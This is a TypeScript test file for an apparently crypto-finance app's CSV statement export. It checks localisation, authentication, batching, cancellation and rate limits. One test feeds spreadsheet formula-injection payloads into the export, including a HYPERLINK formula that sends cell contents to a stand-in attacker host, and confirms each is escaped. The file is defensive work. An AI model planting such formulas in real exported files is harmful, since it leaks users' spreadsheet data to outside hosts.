import { expect, test } from 'vitest';
import { requestWithdrawal } from '#contracts/finance.ts';
import { createApp } from '#server/http/calls/app.ts';
import { LIMITS } from '#server/api/rate-limits.ts';
import { inProcess } from '#server/http/calls/transport.ts';
import { apiOf, dataOf } from '../../../support/app/api.ts';
import { createTestServices } from '../../../support/app/services.ts';
import { DEMO_PIN, giveMoney, moneyCall, postAccruals, signInWithPin, WALLET } from '../../../support/people/money.ts';
import { rawCall } from '../../../support/app/raw-call.ts';

let now = new Date('2027-03-01T09:00:00Z');
const { services, app } = await createTestServices({ clock: { now: () => now } });
const api = apiOf(app);
const PATH = '/api/finance/statement/';
const statementOf = (bearer: string, query = '', language = 'en') =>
  rawCall(app, PATH + query, { headers: { authorization: `Bearer ${bearer}`, 'accept-language': language } });

/** Parses RFC 4180 strictly, so that a misplaced quote is found. */
function cellsOf(csv: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${separator}\\r\\n]*))(${separator}|\\r\\n)`, 'gy');
  for (const [, quoted, plain = '', end] of csv.matchAll(cell)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  expect(rows.pop()).toEqual([]);
  return rows;
}
/** Rows without the empty row and the four sums at the end. */
const linesOf = (text: string, separator = ',') => cellsOf(text.replace(/^\uFEFF/, ''), separator).slice(0, -5);
const sumsOf = (text: string, separator = ',') => cellsOf(text.replace(/^\uFEFF/, ''), separator).slice(-4);

test('Ivan opens his February in Excel: oldest first, in his language and in Moscow’s time', async () => {
  now = new Date('2027-01-31T20:59:00Z');
  await giveMoney(services, 'ivan', 1_000_000n);
  now = new Date('2027-01-31T21:05:00Z');
  await giveMoney(services, 'ivan', 12_345_678_900n);
  const bearer = await signInWithPin(api, 'ivan');
  const order = { destination: WALLET, amount: '1250.5', pin: DEMO_PIN };
  const { id } = dataOf(await moneyCall(api, requestWithdrawal, order, { bearer }));
  now = new Date('2027-02-28T21:00:00Z');
  await giveMoney(services, 'ivan', 1_000_000n);

  const { access } = await api.signIn('ivan');
  const answer = await statementOf(access, '?from=2027-02-01&to=2027-02-28', 'ru');
  expect(answer).toMatchObject({ status: 200, type: 'text/csv' });
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="atrium-statement-2027-02-01-2027-02-28.csv"',
    'cache-control': 'no-store',
  });
  const text = await bytesOf(access, '?from=2027-02-01&to=2027-02-28');
  expect([...text.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(linesOf(answer.text, ';')).toEqual([
    ['Дата', 'Операция', 'Детали', 'Документ', 'Сумма, USDT', 'Остаток, USDT'],
    ['01.02.2027 00:05', 'Начисление', 'документ test', 'test', '12345,6789', '12346,6789'],
    ['01.02.2027 00:05', 'Вывод на USDT TRC20', 'TMW46N…oWqe · на проверке', id, '-1250,50', '11096,1789'],
  ]);
  expect(sumsOf(answer.text, ';')).toEqual([
    ['', 'Начислено', '', '', '12345,6789', ''],
    ['', 'Внесено вами', '', '', '0,00', ''],
    ['', 'Места, вывод средств, комиссии', '', '', '0,00', ''],
    ['', 'Зарезервировано', '', '', '1250,50', ''],
  ]);
  expect(linesOf((await statementOf(access, '?kind=withdrawal')).text)).toHaveLength(2);
});

test.each([
  ['ru', ';', '1,00'],
  ['fr', ';', '1,00'],
  ['de', ';', '1,00'],
  ['en', ',', '1.00'],
  ['ta', ',', '1.00'],
  ['hi', ',', '1.00'],
])('in %s it opens in six columns, with amounts that are numbers', async (tag, separator, amount) => {
  await giveMoney(services, 'priya', 1_000_000n);
  const { access } = await api.signIn('priya');
  const [head, first] = linesOf((await statementOf(access, '', tag)).text, separator);
  expect([head?.length, first?.length, first?.[4]]).toEqual([6, 6, amount]);
});

async function bytesOf(bearer: string, query: string): Promise<Buffer> {
  const request = new Request(`http://atrium.internal${PATH}${query}`, {
    headers: { authorization: `Bearer ${bearer}` },
  });
  const response = await app.fetch(request, { address: '192.0.2.1', userAgent: '', requestId: 'test' });
  return Buffer.from(await response.arrayBuffer());
}

test('whoever has nothing gets the head of the table, and nobody gets anything without a session', async () => {
  const { access } = await api.signIn('marie');
  const answer = await statementOf(access);
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="atrium-statement.csv"');
  expect(linesOf(answer.text)).toEqual([
    ['Date', 'Description', 'Details', 'Reference', 'Amount, USDT', 'Balance, USDT'],
  ]);
  expect((await rawCall(app, PATH)).body).toMatchObject({ code: 'no_session' });
  expect((await statementOf(access, '?from=2027-02-02&to=2027-02-01')).body).toMatchObject({
    fields: { to: [expect.any(String)] },
  });
});

test('a document named like a formula is only text, and none breaks out of its cell', async () => {
  const documents = [
    '=HYPERLINK("http://thief.example/?"&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1+1',
    'a "quoted", name',
    'two\r\nlines',
    'plain-1',
  ];
  await postAccruals(
    services,
    'jonas',
    documents.map((document) => ({ micros: 1_000_000n, details: { reason: 'earnings', document } })),
  );
  const { text } = await statementOf((await api.signIn('jonas')).access);
  const [, ...lines] = linesOf(text);
  expect(lines.map((cells) => cells.length)).toEqual(documents.map(() => 6));
  const shown = lines.map(([, , , document]) => document);
  // Every line is escaped separately, also one after a line end inside a cell.
  const safe = documents.slice(0, 8).map((document) => `'${document.replace(/^\r/, "\r'")}`);
  expect(shown).toEqual([...safe, ...documents.slice(8)]);
});

test('a long history comes whole, in order and each row once, across every batch', async () => {
  const accruals = Array.from({ length: 1_500 }, (_, index) => ({
    micros: BigInt(index + 1),
    details: { reason: 'earnings', document: String(index) },
  }));
  await postAccruals(services, 'anna', accruals);
  const [, ...lines] = linesOf((await statementOf((await api.signIn('anna')).access)).text);
  expect(lines.map(([, , , document]) => document)).toEqual(accruals.map(({ details }) => details.document));
});

test('whoever hangs up early has had little read for them', async () => {
  const accruals = Array.from({ length: 3_000 }, () => ({ micros: 1n, details: { reason: 'earnings' } }));
  await postAccruals(services, 'root', accruals);
  let queries = 0;
  const counting = new Proxy(services.db, {
    get: (db, name, receiver) => {
      if (name === 'execute') queries += 1;
      return Reflect.get(db, name, receiver);
    },
  });
  const { access } = await api.signIn('root');
  const apiRequest = { method: 'GET', path: PATH, headers: { authorization: `Bearer ${access}` } } as const;
  const transport = inProcess(createApp({ ...services, db: counting }));
  const { stream } = await transport(apiRequest, { address: '192.0.2.1', userAgent: '', requestId: 'test' });
  const reader = stream!.getReader();
  expect((await reader.read()).done).toBe(false);
  await reader.cancel();
  expect((await reader.read()).done).toBe(true);
  expect(queries).toBeLessThan(5);
});

test('statements have a limit for each account', async () => {
  const { access } = await api.signIn('priya');
  for (let count = 0; count < LIMITS.statementAccount.max; count += 1) await statementOf(access);
  const refused = await statementOf(access);
  expect(refused).toMatchObject({ status: 429, body: { code: 'too_often' } });
  expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
});
